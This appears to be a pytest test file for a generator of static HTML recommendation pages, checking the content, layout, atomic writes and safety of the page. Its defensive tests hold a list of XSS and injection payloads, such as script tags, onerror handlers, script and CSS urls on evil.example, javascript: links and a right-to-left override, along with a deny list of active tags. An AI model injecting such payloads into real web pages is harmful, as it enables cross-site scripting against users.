"""The page: it holds what it should, loads nothing, and is deaf to whatever a hostile catalog writes into it."""

import base64
import io
import os
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from embed.errors import SnapshotError
from embed.records import TITLE
from embed.store import Store, read_table, replace_table
from embed.words import word_of_copy, word_of_tag
from index.publish import publish_snapshot
from match.page import OTHERS, TITLES, USERS, write_page

ROMANCE, COMEDY, HORROR, PLAIN = np.eye(4, dtype=np.float32)


class Page(HTMLParser):
    """What a browser would find: elements with their attributes, the text, and the style sheet."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.style = ""
        self.lists: list[list[str]] = []  # of each <dl> its terms and values
        self.within: list[str] = []
        self.source = path.read_text(encoding="utf-8")
        self.feed(self.source)
        self.close()
        assert self.within == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag == "dl":
            self.lists.append([])
        if tag not in {"meta", "br"}:  # which are never closed
            self.within.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.within.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" in self.within:
            self.style += data
        else:
            self.texts.append(data)
        if self.within and self.within[-1] in {"dt", "dd"}:
            self.lists[-1].append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self.texts).split())

    def attributes(self, name: str) -> list[str]:
        return [attributes[name] or "" for _, attributes in self.elements if name in attributes]


@pytest.fixture
def show(tmp_path: Path) -> Callable[..., Page]:
    """show(store, users=, titles=) -> the page, parsed."""

    def run(store: Store, **kwargs: Any) -> Page:
        write_page(store, tmp_path / "page.html", **kwargs)
        return Page(tmp_path / "page.html")

    return run


@pytest.fixture
def pictures(tmp_path: Path, titles: dict, drawing: Callable) -> Path:
    """A folder with a picture for each artwork of `titles` but the ghost."""
    folder = tmp_path / "catalog"
    folder.mkdir()
    for row in (row for rows in titles.values() for row in rows if row["artwork_id"] != "ghost"):
        drawing(row["artwork_id"]).save(folder / f"{row['artwork_id']}.png")
    return folder


@pytest.fixture
def page(show: Callable, tmp_path: Path, make_store: Callable, titles: dict, users: dict, pictures: Path) -> Page:
    """`titles` and `users` as a page."""
    return show(make_store(tmp_path / "store", titles, users, catalog=pictures))


# What is to be seen


def test_every_user_is_there_with_their_taste(page: Page) -> None:
    for words in ("rosa", "romantic films", "carl", "funny films", "hugo", "not Ben Marsh", "genre", "person"):
        assert words in page.text
    assert [id_ for id_ in page.attributes("id") if id_.startswith("user-")] == ["user-1", "user-2", "user-3", "user-4"]
    assert page.attributes("href") == ["#user-1", "#user-2", "#user-3", "#user-4"]


def test_the_chosen_and_the_others_are_there(page: Page) -> None:
    labels = page.attributes("aria-label")
    assert labels.count("chosen: kiss") == 1  # rosa
    assert labels.count("not chosen: kiss") == 3
    assert labels.count("chosen: only") == 4


def test_the_parts_of_a_score_add_up_as_shown(page: Page) -> None:
    numbers = re.compile(r"[+-]\d+\.\d\d")
    for words in page.lists:
        starts = [number for number, word in enumerate(words) if word in {"similarity", "people", "prior", "score"}]
        values = {words[start]: float(next(word for word in words[start:] if numbers.fullmatch(word))) for start in starts}
        score = values.pop("score")
        assert {"similarity", "prior"} <= set(values)
        assert sum(values.values()) == pytest.approx(score, abs=0.016)
    assert len(page.lists) == 4 * (3 + 2 + 1)  # four users, each artwork, chosen or not


def test_why_there_is_no_artwork(page: Page) -> None:
    assert page.text.count("No artwork: title 'bare' has no usable artwork") == 4


def test_a_picture_is_stored_once_however_often_it_is_shown(page: Page) -> None:
    urls = re.findall(r"url\((.*?)\)", page.style)
    assert len(urls) == 5  # kiss, clown, two of caper, only
    for url in urls:
        data = base64.b64decode(url.removeprefix("data:image/jpeg;base64,"), validate=True)
        assert Image.open(io.BytesIO(data)).size == (96, 64)


def test_a_picture_that_is_gone_is_shown_as_gone(page: Page) -> None:
    gone = [attributes["title"] for _, attributes in page.elements if attributes.get("class") == "picture gone"]
    assert gone == ["ghost.png"] * 4
    assert page.text.count("picture not there") == 4


def test_the_users_and_titles_named(show: Callable, shared_store: Store) -> None:
    page = show(shared_store, users=["hugo", "rosa"], titles=["lone"])
    assert page.text.index("hugo") < page.text.index("rosa")
    assert "carl" not in page.text
    assert page.text.count("Lone") == 2
    assert "Harbour" not in page.text


def test_whom_and_what_nobody_knows_is_said(show: Callable, shared_store: Store) -> None:
    page = show(shared_store, users=["stranger"], titles=["no such"])
    assert "Taste: the audience's average: nothing is known of user 'stranger'" in page.text
    assert "No artwork: no title 'no such' in snapshot 000001" in page.text


def test_an_empty_list_is_none_and_not_all(show: Callable, shared_store: Store) -> None:
    assert "No users" in show(shared_store, users=[]).text
    page = show(shared_store, titles=[])
    assert page.text.count("No titles were asked for.") == 4


def test_a_store_without_users_says_what_to_run(show: Callable, tmp_path: Path, make_store: Callable, titles: dict) -> None:
    assert "scripts/embed_users.py" in show(make_store(tmp_path / "store", titles)).text


def test_large_stores_are_shown_in_part(show: Callable, tmp_path: Path, make_store: Callable, users: dict) -> None:
    many = [{"artwork_id": f"a{n:02}", "vector": ROMANCE} for n in range(OTHERS + 4)]
    titles = {f"t{n:02}": many if n == 0 else [] for n in range(TITLES + 3)}
    page = show(make_store(tmp_path / "store", titles, {f"u{n:02}": users["rosa"] for n in range(USERS + 2)}))
    assert len([id_ for id_ in page.attributes("id") if id_.startswith("user-")]) == USERS
    assert [tag for tag, _ in page.elements].count("article") == USERS * TITLES
    assert page.text.count("and 3 more") == USERS


def test_progress_counts_pictures(tmp_path: Path, make_store: Callable, titles: dict, users: dict, pictures: Path) -> None:
    seen: list[tuple[int, int]] = []
    store = make_store(tmp_path / "store", titles, users, catalog=pictures)
    write_page(store, tmp_path / "page.html", titles=["harbour"], progress=lambda done, total: seen.append((done, total)))
    assert seen == [(1, 3), (2, 3), (3, 3)]


def test_the_line_of_copy_stands_under_its_picture_and_words_among_the_parts(
    show: Callable, tmp_path: Path, make_store: Callable, titles: dict, users: dict
) -> None:
    said = {**titles, "harbour": [{**row, "tags": [row["artwork_id"]]} for row in titles["harbour"]]}
    copy = [
        {"copy_id": "l1", "title_id": "harbour", "text": "Two hearts.", "tags": ["no clown"]},
        {"copy_id": "l2", "title_id": "lone", "text": "Boo!", "locale": "de"},
    ]
    words = {("tag", "clown"): COMEDY, ("tag", "ghost"): HORROR, ("tag", "kiss"): ROMANCE}
    words |= {("copy", "Two hearts."): ROMANCE, ("copy", "Boo!"): HORROR}
    store = make_store(tmp_path / "store", said, users, copy=copy, words=words)
    page = show(store, users=["rosa"], titles=["harbour", "lone", "bare"])
    assert "“ Two hearts. ” l1 , the only line of its title: similarity +0.00, prior 5.0 %, never shown" in page.text
    assert "says: “ kiss ”" in page.text
    assert page.text.index("Two hearts.") < page.text.index("says: “ kiss ”")
    [parts] = [terms for terms in page.lists if "words" in terms and "people" in terms][:1]
    assert float(parts[parts.index("words") + 1].strip() or parts[parts.index("words") + 2]) > 0
    page = show(store, users=["carl"], titles=["harbour", "bare"])
    assert "no line of copy: its title's only line is not for it (1 by contradiction)" in page.text
    assert page.text.count("no line of copy") == 1


# Loads nothing


def assert_harmless(page: Page) -> None:
    """Neither scripts nor anything that is fetched, submitted or framed."""
    tags = {tag for tag, _ in page.elements}
    assert tags.isdisjoint(
        {"script", "link", "iframe", "object", "embed", "form", "base", "img", "svg", "video", "audio", "input"}
    )
    for _, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on") or name in {"src", "srcset", "action", "srcdoc"}]
        assert (attributes.get("href") or "#").startswith("#")
        assert "url(" not in (attributes.get("style") or "")
    assert all(url.startswith("data:image/jpeg;base64,") for url in re.findall(r"url\((.*?)\)", page.style))
    assert "@import" not in page.style
    assert [tag for tag, _ in page.elements].count("style") == 1


def test_the_page_loads_nothing(page: Page) -> None:
    assert_harmless(page)
    policies = [attributes["content"] for tag, attributes in page.elements if tag == "meta" and "http-equiv" in attributes]
    assert len(policies) == 1
    assert (policies[0] or "").startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")


RIGHT_TO_LEFT = "\u202eevil\u2066 تجربة"
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</style><script src=https://evil.example/x.js></script>",
    "}</style>*{background:url(https://evil.example)}",
    "{{ 7 * 7 }}{% raw %}",
    "Tom & Jerry &amp; &lt;b&gt;",
    RIGHT_TO_LEFT,
    "<!-- <![CDATA[",
    "javascript:alert(1)",
    "</bdi></h3></article></section></main>",
]


@pytest.fixture(params=HOSTILE)
def hostile(request: pytest.FixtureRequest, show: Callable, tmp_path: Path, make_store: Callable, drawing: Callable) -> tuple:
    """(the text, a page on which it stands wherever a catalog can put it)."""
    text = request.param
    catalog = tmp_path / "catalog"
    there = catalog / f"{text.replace('/', '')}.png"
    catalog.mkdir()
    drawing("there").save(there)
    fields = {"people": [text], "tags": [text], "caption": text, "copy": text, "locale": text}
    titles = {
        text: [
            {"artwork_id": text, "vector": ROMANCE, "path": there.name, **fields},
            {"artwork_id": f"{text} 2", "vector": COMEDY, "path": f"gone {text}", **fields},
        ]
    }
    likes = [(text, "genre", 0.6, ROMANCE), (text, "person", 0.4, PLAIN), (f"no {text}", "stated", -0.2, COMEDY)]
    copy = [{"copy_id": text, "title_id": text, "text": text, "locale": text, "tags": [text]}]
    words = {("tag", word_of_tag(text)): ROMANCE, ("copy", word_of_copy(text)): COMEDY}
    store = make_store(tmp_path / "store", titles, {text: likes}, catalog=catalog, copy=copy, words=words)
    named = [{**row, "name": text, "synopsis": text, "genres": [text]} for row in read_table(store, "titles").to_pylist()]
    replace_table(store, "titles", read_table(store, "titles").from_pylist(named, schema=TITLE))
    publish_snapshot(store)
    return text, show(store, users=[text, f"not {text}"], titles=[text, f"not {text}"])


def test_hostile_text_is_text(hostile: tuple) -> None:
    text, page = hostile
    assert_harmless(page)
    said = " ".join(text.split())
    # The user (menu, heading), the title's name, the artwork, the phrases (three, and the one that spoke), the person, and the line
    # of copy with its id, for both users.
    assert page.text.count(said) >= 9 + 4
    assert page.attributes("aria-label").count(f"chosen: {text}") == 2
    assert f"gone {text}" in page.attributes("title")
    assert f"{text.replace('/', '')}.png" in page.attributes("title")


@pytest.mark.parametrize("hostile", [RIGHT_TO_LEFT], indirect=True)
def test_hostile_text_is_isolated(hostile: tuple) -> None:
    """A right-to-left mark in a name must not turn the words beside it round."""
    body = hostile[1].source.partition("<body>")[2]
    assert body.count("\u202e") > 9
    assert "\u202e" not in re.sub(r"<bdi>.*?</bdi>|<[^>]*>", "", body, flags=re.DOTALL)


# Whole or not at all


def test_what_cannot_be_written_leaves_the_old_page_and_nothing_else(
    tmp_path: Path, shared_store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out" / "page.html"
    write_page(shared_store, out)
    before = out.read_bytes()

    def full(descriptor: int) -> None:
        os.truncate(descriptor, 100)  # half of it is there
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space left"):
        write_page(shared_store, out, users=[])
    assert out.read_bytes() == before
    assert [path.name for path in out.parent.iterdir()] == ["page.html"]


def test_without_a_snapshot_there_is_no_page(tmp_path: Path, make_store: Callable, titles: dict) -> None:
    with pytest.raises(SnapshotError):
        write_page(make_store(tmp_path / "store", titles, publish=False), tmp_path / "page.html")
    assert not (tmp_path / "page.html").exists()
